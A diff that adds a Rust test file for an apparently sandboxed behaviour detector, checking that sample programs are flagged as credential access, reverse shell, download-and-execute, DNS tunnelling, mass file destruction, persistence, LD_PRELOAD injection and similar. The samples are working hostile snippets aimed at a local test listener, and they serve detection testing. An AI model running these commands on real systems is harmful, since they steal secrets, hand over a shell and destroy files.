@@ -1,0 +1,300 @@
+//! Real programs, and what the whole of their acts is called; near misses, and that nothing is.
+
+use std::io::{Read as _, Write as _};
+use std::net::TcpListener;
+
+use turnkey_tests::{Ran, Run};
+
+/// The names of the behaviours that were found.
+fn named(ran: &Ran) -> Vec<String> {
+    let ids = ran.list("/findings").iter();
+    let ids = ids.filter_map(|finding| finding["id"].as_str()?.strip_prefix("behaviour:"));
+    ids.map(str::to_owned).collect()
+}
+
+#[track_caller]
+fn is_named(ran: &Ran, behaviour: &str) {
+    ran.expect(named(ran).iter().any(|name| name == behaviour), behaviour);
+    let id = format!("behaviour:{behaviour}");
+    let mut findings = ran.list("/findings").iter();
+    let finding = findings.find(|finding| finding["id"] == id.as_str());
+    let evidence = finding.and_then(|finding| finding["evidence"].as_array());
+    ran.expect(
+        evidence.is_some_and(|steps| !steps.is_empty()),
+        "with the acts that show it",
+    );
+    ran.expect(ran.stderr.contains(behaviour), "and people are told");
+}
+
+/// Where rules only log, so that a behaviour comes to its end.
+fn observed() -> Run {
+    Run::new().option("--mode observe")
+}
+
+#[test]
+fn a_sweep_over_secrets_is_credential_access() {
+    let ran = observed().shell("cat /root/.ssh/id_rsa /root/.aws/credentials; true");
+    is_named(&ran, "credential-access");
+}
+
+#[test]
+fn a_burst_of_questions_is_discovery() {
+    let ran =
+        observed().shell("id; uname -a; hostname; ls /etc /root /home; cat /proc/version; true");
+    is_named(&ran, "discovery");
+}
+
+/// Somebody on the host who says this to the first who calls, and hears the answer.
+fn says(what: &'static str) -> (String, std::thread::JoinHandle<String>) {
+    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
+    let address = listener.local_addr().unwrap().to_string();
+    let told = std::thread::spawn(move || {
+        let (mut caller, _) = listener.accept().unwrap();
+        caller.write_all(what.as_bytes()).unwrap();
+        let mut answer = String::new();
+        // A jail that is killed breaks the connection.
+        let _ = caller.read_to_string(&mut answer);
+        answer
+    });
+    (address, told)
+}
+
+#[test]
+fn a_shell_on_a_connection_is_a_reverse_shell() {
+    let (address, told) = says("echo $((6 * 7))\nexit\n");
+    let port = address.split(':').nth(1).unwrap().to_owned();
+    let program = "import os, socket
+s = socket.create_connection(('127.0.0.1', PORT))
+for n in range(3): os.dup2(s.fileno(), n)
+os.execv('/bin/sh', ['sh'])";
+    let run = observed().option(&format!("--allow {address}"));
+    let ran = run.python(&program.replace("PORT", &port));
+    ran.expect(told.join().unwrap().contains("42"), "it obeyed");
+    is_named(&ran, "reverse-shell");
+}
+
+#[test]
+fn what_came_over_the_network_and_runs_is_download_and_execute() {
+    let (address, told) = says("#!/bin/sh\necho it ran\n");
+    let port = address.split(':').nth(1).unwrap().to_owned();
+    let program = "import os, socket
+s = socket.create_connection(('127.0.0.1', PORT))
+open('fetched', 'wb').write(s.recv(100))
+s.close()
+os.chmod('fetched', 0o755)
+os.system('./fetched')";
+    let run = observed().option(&format!("--allow {address}"));
+    let ran = run.python(&program.replace("PORT", &port));
+    told.join().unwrap();
+    ran.expect(ran.stdout.contains("it ran"), "it ran");
+    is_named(&ran, "download-execute");
+}
+
+#[test]
+fn a_program_in_memory_is_fileless() {
+    let program = "import os
+fd = os.memfd_create('x', 0)
+os.write(fd, open('/bin/true', 'rb').read())
+os.execve(fd, ['x'], {})";
+    is_named(&observed().python(program), "fileless-execution");
+}
+
+#[test]
+fn many_ports_are_a_scan() {
+    let program = "import socket
+for port in range(20, 40):
+    s = socket.socket()
+    try: s.connect(('127.0.0.1', port))
+    except OSError: pass";
+    is_named(&Run::new().python(program), "port-scan");
+}
+
+#[test]
+fn a_secret_before_the_network_is_exfiltration() {
+    let ran = observed().option("--network loopback").python(
+        "import socket
+open('/etc/shadow').read()
+try: socket.create_connection(('127.0.0.1', 5758))
+except OSError: pass",
+    );
+    is_named(&ran, "exfiltration");
+}
+
+#[test]
+fn data_in_names_is_a_tunnel() {
+    let program = "import socket, struct
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+for n in range(12):
+    labels = [('%02d' % n) + 'd' * 40, 'example', 'org']
+    name = b''.join(bytes([len(l)]) + l.encode() for l in labels) + b'\\0'
+    try: s.sendto(struct.pack('>6H', n, 256, 1, 0, 0, 0) + name + b'\\0\\1\\0\\1', ('127.0.0.1', 53))
+    except OSError: pass";
+    is_named(&Run::new().python(program), "dns-tunnel");
+}
+
+/// Files of a home, of several classes.
+const HOME: &[&str] = &[
+    "a.docx", "b.pdf", "c.xlsx", "d.jpg", "e.png", "f.mp3", "g.zip", "h.txt", "i.csv", "j.db",
+    "k.pem", "l.md",
+];
+
+fn home(run: Run) -> Run {
+    HOME.iter().fold(run, |run, name| run.file(name, "mine"))
+}
+
+#[test]
+fn files_of_all_kinds_lost_at_once_are_a_mass_change() {
+    let program = "import os
+for name in os.listdir('.'):
+    data = open(name, 'rb').read()
+    open(name, 'wb').write(bytes(b ^ 42 for b in data))";
+    is_named(&home(Run::new()).python(program), "mass-change");
+    let ran = home(Run::new()).shell("for f in *; do mv $f $f.locked; done");
+    is_named(&ran, "mass-change");
+    is_named(&home(Run::new()).shell("rm -rf ./*"), "mass-change");
+}
+
+#[test]
+fn what_runs_later_is_persistence() {
+    let ran = observed()
+        .shell("mkdir -p .git/hooks; echo evil > .git/hooks/pre-commit; echo x >> ~/.bashrc");
+    is_named(&ran, "persistence");
+}
+
+#[test]
+fn privileges_are_an_escalation() {
+    let program = "import os
+try: os.setuid(0)
+except OSError: pass";
+    is_named(&observed().python(program), "privilege-escalation");
+}
+
+#[test]
+fn a_way_out_is_an_escape() {
+    let program = "import ctypes
+ctypes.CDLL(None).mount(b'none', b'/tmp', b'tmpfs', 0, None)";
+    is_named(&observed().python(program), "jail-escape");
+}
+
+#[test]
+fn all_the_memory_is_exhaustion() {
+    let ran = Run::new()
+        .option("--memory 64M")
+        .python("x = bytearray(200 << 20)\nprint(len(x))");
+    is_named(&ran, "exhaustion");
+}
+
+#[test]
+fn a_program_that_removes_itself_evades() {
+    let ran = Run::new()
+        .file("x.py", "import os\nos.unlink('x.py')")
+        .run(&["python3", "x.py"]);
+    is_named(&ran, "evasion");
+}
+
+#[test]
+fn a_program_that_waits_for_the_end_evades() {
+    let ran = Run::new().option("--wall 2s").shell("sleep 60");
+    ran.expect_code(124);
+    is_named(&ran, "evasion");
+}
+
+#[test]
+fn ending_processes_by_name_is_named() {
+    let ran = Run::new().shell("pkill -9 no-such-process; true");
+    is_named(&ran, "process-killing");
+}
+
+const LIBRARY: &str = "import os, shutil, sys
+name = [m for m in open('/proc/self/maps') if 'libc.so' in m][0].split()[-1]
+shutil.copy(name, 'evil.so')
+os.environ['LD_PRELOAD'] = '/workspace/evil.so'
+os.system('true; /bin/ls > /dev/null')";
+
+#[test]
+fn a_library_before_all_others_is_injection() {
+    is_named(&Run::new().python(LIBRARY), "injection");
+}
+
+#[track_caller]
+fn is_nothing(ran: &Ran) {
+    ran.expect(named(ran).is_empty(), "nothing is named");
+}
+
+#[test]
+fn ordinary_programs_are_nothing() {
+    let program = "import json, os, socket, subprocess, tempfile
+server = socket.create_server(('127.0.0.1', 0))
+s = socket.create_connection(server.getsockname())
+for n in range(30):
+    socket.create_connection(server.getsockname()).close()
+subprocess.run(['sh', '-c', 'ls > /dev/null; uname -m'], check=True)
+for n in range(30):
+    with tempfile.NamedTemporaryFile(suffix=['.txt', '.jpg', '.zip'][n % 3]) as f: f.write(b'x')
+for n in range(40):
+    open('%d.py' % n).read()
+    open('%d.py' % n, 'w').write('x = 1\\n')
+    os.unlink('%d.o' % n)
+open('/tmp/tool', 'w').write('#!/bin/sh\\necho built\\n')
+os.chmod('/tmp/tool', 0o755)
+subprocess.run(['/tmp/tool'], check=True)
+open('/etc/passwd').read()";
+    let sources = (0..40).fold(Run::new(), |run, number| {
+        run.file(&format!("{number}.py"), "x=1\n")
+            .file(&format!("{number}.o"), "object")
+    });
+    let ran = sources.option("--network loopback").python(program);
+    ran.expect_code(0);
+    is_nothing(&ran);
+    ran.expect(ran.at("/verdict") == "clean", "clean");
+}
+
+#[test]
+fn a_jail_dies_of_a_behaviour_where_the_profile_says_so() {
+    let program = "import socket, time
+for port in range(20, 40):
+    s = socket.socket()
+    try: s.connect(('127.0.0.1', port))
+    except OSError: pass
+time.sleep(10)
+print('survived')";
+    let lines = "[behaviour]\nport-scan = \"kill\"\n";
+    let ran = Run::new().profile(lines).python(program);
+    ran.expect_code(121);
+    ran.expect(ran.at("/status") == "killed_by_policy", "killed");
+    ran.expect(!ran.stdout.contains("survived"), "it died of it");
+    is_named(&ran, "port-scan");
+    // The control: where it is only logged, it lives.
+    let control = Run::new()
+        .profile("")
+        .python(&program.replace("sleep(10)", "sleep(1)"));
+    control.expect(control.stdout.contains("survived"), "without it, it lives");
+    is_named(&control, "port-scan");
+}
+
+#[test]
+fn an_accepted_finding_weighs_nothing_until_its_day_is_over() {
+    let accept = |until: &str| {
+        format!(
+            "[[accept]]\nfinding = \"behaviour:process-killing\"\nwhy = \"it stops its own workers\"\nuntil = \"{until}\"\n"
+        )
+    };
+    let script = "pkill no-such-process; true";
+    let ran = Run::new().profile(&accept("2999-12-31")).shell(script);
+    ran.expect(ran.at("/verdict") == "clean", "clean");
+    ran.expect(ran.at("/risk_score") == 0, "no score");
+    ran.expect(
+        ran.at("/findings/0/accepted/why") == "it stops its own workers",
+        "told as accepted",
+    );
+    ran.expect(
+        ran.stderr.contains("accepted until 2999-12-31"),
+        "to people, too",
+    );
+    let ran = Run::new().profile(&accept("2020-12-31")).shell(script);
+    ran.expect(ran.at("/verdict") == "suspicious", "it is over");
+    ran.expect(
+        ran.at("/findings/0/accepted/expired") == true,
+        "and that is said",
+    );
+}
